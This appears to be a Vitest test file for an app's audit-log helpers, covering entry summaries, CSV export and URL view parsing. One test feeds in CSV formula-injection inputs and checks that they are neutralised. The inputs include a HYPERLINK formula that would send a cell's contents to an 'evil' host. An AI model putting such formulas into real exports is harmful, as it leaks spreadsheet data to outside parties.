import { describe, expect, test } from "vitest";
import type { AuditRow } from "#lib/contracts/audit.ts";
import { auditCsv, auditLine, formatAuditView, parseAuditView } from "../../../app/_lib/audit.ts";

const TIME = 1_767_614_400_000_000;
const row = (entry: Partial<AuditRow["entry"]> = {}, outcome: AuditRow["outcome"] = null): AuditRow => ({
  entry: {
    id: "5f0c7d9e-0000-4000-8000-000000000001",
    time: TIME,
    action: "ticker-edited",
    symbol: "SIM:AAPL",
    about: null,
    changes: [{ field: "marketValue", before: null, after: "3" }],
    who: "ann",
    address: "10.0.0.7",
    ...entry,
  },
  outcome,
});
const done = { state: "done", reason: null, time: TIME } as const;

describe("an entry of the audit log", () => {
  test("says what was done and what differs, without what its row says already", () => {
    const changes = [
      { field: "marketValue", before: null, after: "3" },
      { field: "updatedAt", before: "1", after: "2" },
      { field: "condition.level", before: "5", after: "6" },
    ];
    expect(auditLine(row({ changes }, done))).toEqual({
      what: "Ticker edited",
      changes: [
        { field: "market value", before: null, after: "3" },
        { field: "condition level", before: "5", after: "6" },
      ],
      doubt: null,
    });
  });

  test("tells what was refused from what nobody knows", () => {
    const refused = { state: "refused", reason: "too late", time: TIME } as const;
    expect(auditLine(row({}, refused)).doubt).toMatchObject({ words: "Not made", reason: "too late" });
    expect(auditLine(row()).doubt).toMatchObject({ words: "Not known whether made" });
    expect(auditLine(row({ action: "signed-in" })).doubt).toBeNull();
  });

  test("is saved with a line for each field, quoted where it must be", () => {
    const changes = [
      { field: "name", before: "A", after: 'A, "B"' },
      { field: "sector", before: null, after: "Tech" },
    ];
    const signIn = row({ action: "sign-in-refused", symbol: null, who: null, changes: [] });
    expect(auditCsv([row({ changes }, done), signIn]).split("\r\n")).toEqual([
      "Time,Action,Symbol,About,Field,Before,After,Person,Address,Outcome,Reason",
      '2026-01-05T12:00:00.000Z,Ticker edited,SIM:AAPL,,name,A,"A, ""B""",ann,10.0.0.7,Done,',
      "2026-01-05T12:00:00.000Z,Ticker edited,SIM:AAPL,,sector,,Tech,ann,10.0.0.7,Done,",
      "2026-01-05T12:00:00.000Z,Sign-in refused,,,,,,,10.0.0.7,Done,",
      "",
    ]);
  });
});

test("what people wrote is no formula in a spreadsheet", () => {
  const notes = ['=HYPERLINK("https://evil/?"&A2;"ok")', "@SUM(A1)", "+1+1", "-2+3", "\tx", "\r=1", "-5.25", "a=b"];
  const changes = notes.map((after) => ({ field: "note", before: null, after }));
  const told = notes.map((_, number) => auditCsv([row({ changes: changes.slice(number, number + 1) })]));
  expect(told.map((csv) => /,note,,(.*),ann,/s.exec(csv)?.[1])).toEqual([
    '"\'=HYPERLINK(""https://evil/?""&A2;""ok"")"',
    "'@SUM(A1)",
    "'+1+1",
    "'-2+3",
    "'\tx",
    '"\'\r=1"',
    "-5.25",
    "a=b",
  ]);
});

test("what is shown of the log lies in the address; what is not understood does not", () => {
  const view = { ticker: "SIM:AAPL", person: "ann", group: "sign-ins" } as const;
  expect(formatAuditView(view)).toBe("?ticker=SIM:AAPL&person=ann&group=sign-ins");
  expect(parseAuditView({ ...view })).toEqual(view);
  expect(parseAuditView({ ticker: ["a"], group: "toString" })).toEqual({ ticker: "", person: "", group: null });
  expect(formatAuditView({ ticker: " ", person: "", group: null })).toBe("");
});
